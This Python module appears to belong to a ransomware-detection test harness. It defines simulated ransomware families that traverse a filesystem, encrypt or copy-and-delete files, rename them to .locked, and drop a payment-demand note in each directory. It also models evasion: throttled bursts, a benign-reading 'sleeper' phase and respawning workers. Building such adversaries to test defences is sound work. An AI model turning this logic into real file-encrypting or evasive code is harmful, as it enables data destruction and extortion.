"""Synthetic crypto-ransomware families."""

from __future__ import annotations

import functools
import posixpath
import random
from dataclasses import dataclass, field, replace

from guardfs.adversary.corpus import eligible
from guardfs.adversary.crypto import StreamEncryptor
from guardfs.adversary.ops import (
    CHUNK,
    Close,
    Count,
    Create,
    Now,
    Open,
    Read,
    Reap,
    Rename,
    Shared,
    Sleep,
    Spawn,
    TokenBucket,
    Unlink,
    Write,
    walk,
)

TRAVERSALS = ("depth-first", "breadth-first", "shuffled")
MODES = ("overwrite", "create-then-unlink")
LOCKED = ".locked"
ENC = ".enc"
NOTE_NAME = "HOW_TO_RECOVER.txt"


@dataclass(frozen=True)
class RansomSpec:
    family: str
    rate: float  # ε, bytes/s over all workers
    parallelism: int = 1
    traversal: str = "depth-first"
    mode: str = "overwrite"
    duty: tuple[float, float] | None = None  # (burst_s, sleep_s)
    suffix_filter: frozenset = field(default_factory=frozenset)
    seed: int = 0
    max_respawn: int = 0  # replacement workers a parent may start
    start_delay: float = 0.0
    benign_phase: float = 0.0  # seconds of plain reading before encrypting (sleeper)
    notes: bool = True  # drop a ransom note in every directory touched

    def __post_init__(self):
        if not self.rate > 0:
            raise ValueError("rate must be positive")
        if self.parallelism < 1:
            raise ValueError("parallelism must be >= 1")
        if self.traversal not in TRAVERSALS:
            raise ValueError(f"unknown traversal {self.traversal!r}")
        if self.mode not in MODES:
            raise ValueError(f"unknown mode {self.mode!r}")
        if self.duty is not None and (self.duty[0] <= 0 or self.duty[1] < 0):
            raise ValueError("duty cycle needs a positive burst")
        object.__setattr__(self, "suffix_filter", frozenset(self.suffix_filter))

    def to_dict(self) -> dict:
        d = {k: getattr(self, k) for k in self.__dataclass_fields__}
        d["suffix_filter"] = sorted(self.suffix_filter)
        d["duty"] = list(self.duty) if self.duty else None
        return d

    @classmethod
    def from_dict(cls, d: dict) -> "RansomSpec":
        d = dict(d)
        d["suffix_filter"] = frozenset(d.get("suffix_filter") or ())
        if d.get("duty"):
            d["duty"] = tuple(d["duty"])
        return cls(**d)


PRESETS = {
    # many worker processes, replaced when they die
    "aggressive-parallel": dict(parallelism=4, traversal="shuffled", mode="overwrite", max_respawn=8),
    # one process, writes an encrypted copy then deletes the original
    "sequential-basic": dict(parallelism=1, traversal="depth-first", mode="create-then-unlink"),
    # short bursts separated by hibernation
    "stealth-throttled": dict(parallelism=1, traversal="breadth-first", mode="overwrite", duty=(2.0, 8.0)),
}
FAMILIES = tuple(PRESETS)


def preset(family: str, rate: float = 6e6, seed: int = 0, **overrides) -> RansomSpec:
    if family not in PRESETS:
        raise ValueError(f"unknown family {family!r}; choose from {', '.join(FAMILIES)}")
    return replace(RansomSpec(family, rate, seed=seed, **PRESETS[family]), **overrides)


def sleeper(rate: float, benign_phase: float, seed: int = 0) -> RansomSpec:
    """Reads like a normal process for `benign_phase` seconds, then encrypts."""
    return RansomSpec("sleeper", rate, traversal="shuffled", mode="overwrite", seed=seed,
                      benign_phase=benign_phase)


def _chunks(size: int) -> list[int]:
    """Split into near-equal chunks of at most CHUNK bytes, so the last
    ciphertext buffer is never a tiny low-entropy tail."""
    if size <= 0:
        return []
    n = -(-size // CHUNK)
    base, extra = divmod(size, n)
    return [base + (1 if i < extra else 0) for i in range(n)]


def _targets(spec: RansomSpec, files):
    return [(p, s) for p, s in files
            if eligible(p, spec.suffix_filter) and not p.endswith((LOCKED, ENC, NOTE_NAME))]


def ransomware_program(spec: RansomSpec):
    """Leader process: discover targets, then encrypt or run a worker pool."""
    rng = random.Random(spec.seed)
    if spec.start_delay:
        yield Sleep(spec.start_delay)
    files = yield from walk("/", spec.traversal, rng)
    targets = _targets(spec, files)
    if spec.benign_phase > 0:
        yield from _benign_reading(spec, targets, rng)
    if spec.parallelism == 1:
        yield from _worker(spec, targets, 0, None)
        return
    slots = [targets[k::spec.parallelism] for k in range(spec.parallelism)]
    progress = yield Shared(spec.parallelism)
    running = {}
    for k in range(spec.parallelism):
        tok = yield Spawn(functools.partial(_worker, spec, slots[k], k, progress))
        running[tok] = k
    respawned = 0
    while running:
        yield Sleep(0.05)
        for tok in (yield Reap()):
            k = running.pop(tok, None)
            if k is None:
                continue
            if progress[k] < len(slots[k]) and respawned < spec.max_respawn:
                respawned += 1
                yield Count("respawns")
                new = yield Spawn(functools.partial(_worker, spec, slots[k], k, progress))
                running[new] = k


def _benign_reading(spec: RansomSpec, targets, rng: random.Random):
    t0 = yield Now()
    bucket = TokenBucket(spec.rate / 4)
    sizes = dict(targets)
    pool = sorted(sizes)
    if not pool:
        return
    while True:
        now = yield Now()
        if now - t0 >= spec.benign_phase:
            return
        path = rng.choice(pool)
        try:
            h = yield Open(path)
        except OSError:
            pool.remove(path)
            if not pool:
                return
            continue
        off = 0
        for n in _chunks(sizes[path]):
            now = yield Now()
            if now - t0 >= spec.benign_phase:
                break
            yield from bucket.take(n)
            b = yield Read(h, n, off)
            off += len(b)
        yield Close(h)


def _duty_wait(spec: RansomSpec, t0: float):
    if spec.duty is None:
        return
    burst, rest = spec.duty
    now = yield Now()
    phase = (now - t0) % (burst + rest)
    if phase >= burst:
        yield Sleep(burst + rest - phase)


def _worker(spec: RansomSpec, files, slot: int, progress):
    enc = StreamEncryptor(spec.seed, f"slot{slot}")
    bucket = TokenBucket(spec.rate / spec.parallelism)
    t0 = yield Now()
    start = progress[slot] if progress is not None else 0
    noted = set()
    for i in range(start, len(files)):
        path, size = files[i]
        yield from _duty_wait(spec, t0)
        try:
            if spec.mode == "overwrite":
                yield from _overwrite(spec, enc, bucket, t0, path, size)
            else:
                yield from _copy_unlink(spec, enc, bucket, t0, path, size)
        except OSError:
            yield Count("errors")
            continue
        yield Count("files_touched")
        # the note follows the first file encrypted in each directory
        d = posixpath.dirname(path)
        if spec.notes and d not in noted:
            noted.add(d)
            try:
                yield from _drop_note(spec, posixpath.join(d, NOTE_NAME))
            except OSError:
                yield Count("errors")
        if progress is not None:
            progress[slot] = i + 1


def _note_text(seed: int) -> bytes:
    return (
        "Your files have been encrypted.\n"
        "To recover them, send the payment described below and quote your id.\n"
        f"id: {seed:08d}-{seed * 7919 % 100000:05d}\n"
        "Do not rename or modify the encrypted files.\n"
    ).encode() * 4


def _drop_note(spec, path):
    h = yield Create(path)
    try:
        yield Write(h, _note_text(spec.seed), 0)
    except OSError:
        yield Close(h)
        raise
    yield Close(h)


def _overwrite(spec, enc, bucket, t0, path, size):
    h = yield Open(path, write=True)
    off = 0
    try:
        for n in _chunks(size):
            yield from _duty_wait(spec, t0)
            data = yield Read(h, n, off)
            if not data:
                break
            ct = enc.encrypt(data, f"{path}:{off}")
            yield from bucket.take(len(ct))
            yield Count("bytes_attempted", len(ct))
            yield Write(h, ct, off)
            off += len(data)
    except OSError:
        yield Close(h)
        raise
    yield Close(h)
    yield Rename(path, path + LOCKED)


def _copy_unlink(spec, enc, bucket, t0, path, size):
    # stream the original into an encrypted sibling, then delete it
    src = yield Open(path)
    h = None
    off = 0
    try:
        h = yield Create(path + ENC)
        for n in _chunks(size):
            yield from _duty_wait(spec, t0)
            data = yield Read(src, n, off)
            if not data:
                break
            ct = enc.encrypt(data, f"{path}:{off}")
            yield from bucket.take(len(ct))
            yield Count("bytes_attempted", len(ct))
            yield Write(h, ct, off)
            off += len(data)
    except OSError:
        if h is not None:
            yield Close(h)
        yield Close(src)
        raise
    yield Close(h)
    yield Close(src)
    yield Unlink(path)
